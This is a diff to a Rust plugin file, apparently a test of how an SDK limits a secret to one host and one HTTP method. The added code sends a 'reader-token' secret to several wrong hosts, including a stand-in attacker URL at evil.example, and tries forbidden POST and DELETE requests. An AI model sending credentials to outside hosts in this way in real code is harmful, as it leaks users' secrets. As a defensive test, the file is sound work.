@@ -12,6 +12,8 @@ use davit_plugin_sdk::{
 struct Auth;
 
 const VAULT: &str = "https://vault.example/collect";
+/// Granted for GET alone, with a secret that is for it alone.
+const READER: &str = "https://reader.example/collect";
 const EVIL: &str = "https://evil.example/collect";
 const REALM: &str = "https://auth.example/token";
 const MIRROR: &str = "https://mirror.example";
@@ -66,7 +68,14 @@ fn insist(challenge: &Challenge) -> Result<()> {
         drop(refused);
     }
     drop(send_secret(&secrets::named("vault-token")?, REALM));
-    Ok(())
+    let readers = secrets::named("reader-token")?;
+    for url in [VAULT, REALM, EVIL] {
+        drop(send_secret(&readers, url));
+    }
+    for method in ["POST", "DELETE"] {
+        drop(Request::new(method, READER).send());
+    }
+    send_secret(&readers, READER)
 }
 
 impl RegistryAuth for Auth {
